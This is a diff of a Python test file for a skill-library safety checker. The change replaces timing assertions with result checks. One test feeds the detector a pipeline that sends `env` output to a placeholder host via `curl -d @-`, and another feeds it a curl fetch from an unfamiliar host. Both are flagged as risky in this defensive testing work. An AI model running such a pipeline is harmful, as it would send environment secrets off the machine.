@@ -1,6 +1,7 @@
 """Skill libraries found by fuzzing validate, route, the hook and the MCP tools (one test per crash or
-hang site): one odd skill never stops the check or the routing of the rest, and nothing takes
-quadratic time in the size of one SKILL.md."""
+hang site): one odd skill never stops the check or the routing of the rest. The slow shapes it found
+(many links, home paths, URLs on one line, a long pipeline) keep their results here; their speed is
+measured by ``benchmarks/safety_redos.py`` (SHAPED), not asserted."""
 
 from __future__ import annotations
 
@@ -8,7 +9,6 @@ import io
 import json
 import os
 import sys
-import time
 from contextlib import redirect_stdout
 from pathlib import Path
 
@@ -34,35 +34,26 @@ def library(tmp_path: Path) -> Path:
     return lib
 
 
-def elapsed(call: object) -> float:
-    start = time.monotonic()
-    call()  # type: ignore[operator]
-    return time.monotonic() - start
-
-
-def test_many_open_brackets_in_a_body_are_scanned_for_links_in_linear_time() -> None:
+def test_many_open_brackets_in_a_body_are_scanned_for_links() -> None:
     # 20,000 "![" took 18 s (the link pattern backtracked over the rest of the line from every "[")
-    assert elapsed(lambda: links("![" * 20_000)) < 3
-    assert elapsed(lambda: links("[ " * 20_000)) < 3
+    assert links("![" * 20_000) == [] and links("[ " * 20_000) == []
     assert links("see [the [nested] notes](references/notes.md) and ![x](a.png)") == [
         (0, "a.png"),
         (0, "references/notes.md"),
     ]
 
 
-def test_many_links_are_numbered_by_line_in_linear_time() -> None:
+def test_many_links_are_numbered_by_line() -> None:
     # each link's line was counted from the start of the text: 20,000 links took 6.6 s
     text = "[x](references/a.md)\n" * 20_000
-    assert elapsed(lambda: links(text)) < 3
     found = links(text)
     assert found[0] == (0, "references/a.md") and found[-1] == (19_999, "references/a.md")
 
 
-def test_a_long_pipeline_is_checked_for_credential_uploads_in_linear_time() -> None:
+def test_a_long_pipeline_is_checked_for_credential_uploads() -> None:
     # each network command was compared with every command before it: 3,000 "curl x |" took 7 s in
     # validate, and route's index build (the hook, on every prompt) as long
-    commands = [["curl", "x"]] * 5_000
-    assert elapsed(lambda: list(uploads(commands))) < 2
+    assert list(uploads([["curl", "x"]] * 5_000)) == []
     assert list(uploads([["cat", "x"], ["env"], ["ls"], ["curl", "-d", "@-", "https://h"]])) == [
         ("credential-upload", "sends env output to the network (curl)", "high")
     ]
@@ -162,24 +153,22 @@ def test_a_fifo_named_skill_md_does_not_hang_route(tmp_path: Path) -> None:
     assert names == ["git-rebase-recovery"]
 
 
-def test_many_home_paths_are_numbered_by_line_in_linear_time() -> None:
+def test_many_home_paths_are_numbered_by_line() -> None:
     # each home path's line was counted from the start of the text: 20,000 took 8.8 s in validate
     from skillforge.safety.paths import find_home_paths
 
     text = "cd /home/alice/x\n" * 20_000 + "C:\\Users\\bob\\y\n"
-    assert elapsed(lambda: find_home_paths(text)) < 3
     found = find_home_paths(text)
     assert found[0] == (1, "/home/alice") and found[-2] == (20_000, "/home/alice")
     assert found[-1][0] == 20_001 and "bob" in found[-1][1]
 
 
-def test_many_urls_on_one_line_are_checked_in_linear_time() -> None:
+def test_many_urls_on_one_line_are_checked() -> None:
     # the line of each URL was searched again for a fetching command: 5,000 URLs on one line took
     # 263 s in validate, and as long in route's index build (the hook, on every prompt)
     from skillforge.skills.validate import check_text
 
-    text = "see http://a.example.org/x " * 5_000
-    assert elapsed(lambda: check_text(text, "SKILL.md")) < 5
+    assert check_text("see http://a.example.org/x " * 5_000, "SKILL.md") == []  # a plain link fetches nothing
     found = check_text("curl https://get.acme-tools.io/y\nsee https://docs.acme-tools.io/z", "SKILL.md")
     assert [(f.name, f.line) for f in found] == [("unknown-host", 1)]  # the link on line 2 fetches nothing
 
